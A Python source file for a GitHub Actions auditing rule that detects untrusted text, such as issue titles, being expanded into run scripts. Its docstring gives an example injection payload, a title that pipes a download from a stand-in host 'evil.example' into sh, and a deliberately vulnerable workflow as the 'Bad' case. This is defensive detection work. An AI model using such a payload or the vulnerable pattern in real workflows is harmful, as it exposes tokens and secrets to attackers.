"""Text that somebody else writes is spliced into a script before the script runs.

## Why it matters

GitHub replaces `${{ ... }}` in a script by its value and then hands the result to the shell. A pull request
titled `"; curl evil.example | sh; "` is then no longer a title but a command, and it runs with the job's
token and secrets. Quotes don't help: the text has its own. It is the same when the text takes a detour
through `env` expressions, step and job outputs, a matrix, or an action's inputs.

How bad it is depends on who writes the text and what the run may do: an outsider's text in a run with a
token that may write or secrets is critical, the same in a fork's own pull request (read-only token, no
secrets) is low, and a text that only people with write access choose lies between.

## How to fix

Pass the value through `env` and use the shell variable: `"$TITLE"`, not `${{ … }}`. In
`actions/github-script` read `process.env.TITLE`.

## Bad

```yaml
name: greet
on:
  issues:
    types: [opened]
permissions:
  issues: write
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "Thanks for ${{ github.event.issue.title }}"
```

## Good

```yaml
name: greet
on:
  issues:
    types: [opened]
permissions:
  issues: write
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "Thanks for $TITLE"
        env:
          TITLE: ${{ github.event.issue.title }}
```

## What this rule cannot see

What a program does with a variable later: where a script makes code of one, it is `shell-injection`.
Outputs of actions that aren't in its tables are not known, nor is what a command prints that isn't in them,
and what a script in a language other than bash, sh, PowerShell, cmd, Python and JavaScript hands on. A file
counts where a step of the same job wrote it. A script that a reusable workflow of another repository takes
as an input isn't looked at. Arguments of a `docker://` step count where a shell is named in them. It
assumes the worst about a condition that it can't decide, and names it.

## References

- https://docs.github.com/en/actions/reference/security/secure-use#understanding-the-risk-of-script-injections
- https://securitylab.github.com/resources/github-actions-untrusted-input/
"""

from collections.abc import Iterator

from auditor.api import Confidence, Facts, Hit, Severity, Step, Verdict, rule


@rule(
    Step,
    id="template-injection",
    title="Untrusted text is expanded into a script",
    severity=Severity.CRITICAL,
    cwe=94,
    owasp="CICD-SEC-4",
    boundary="code",
    since="0.1.0",
)
def check(step: Step, facts: Facts) -> Iterator[Hit]:
    """One hit an expression; the worst way to it decides how bad it is."""
    for script, what in facts.injection.scripts(step):
        for part in facts.expressions(script):
            splices = facts.injection.into(part, step)
            if not splices:
                continue
            worst = splices[0]
            evaluable = worst.author is not None
            yield Hit(
                message=f"{worst.whose} `{worst.name}` is expanded into {what}",
                at=part.location,
                severity=worst.severity,
                confidence=Confidence.HIGH if evaluable else Confidence.LOW,
                verdict=Verdict.EXPOSED if evaluable else Verdict.NOT_EVALUABLE,
                traces=tuple(
                    splice.trace(f"{part.text} becomes part of {what}", part.location)
                    for splice in splices[:5]
                ),
                text=part.text,
            )
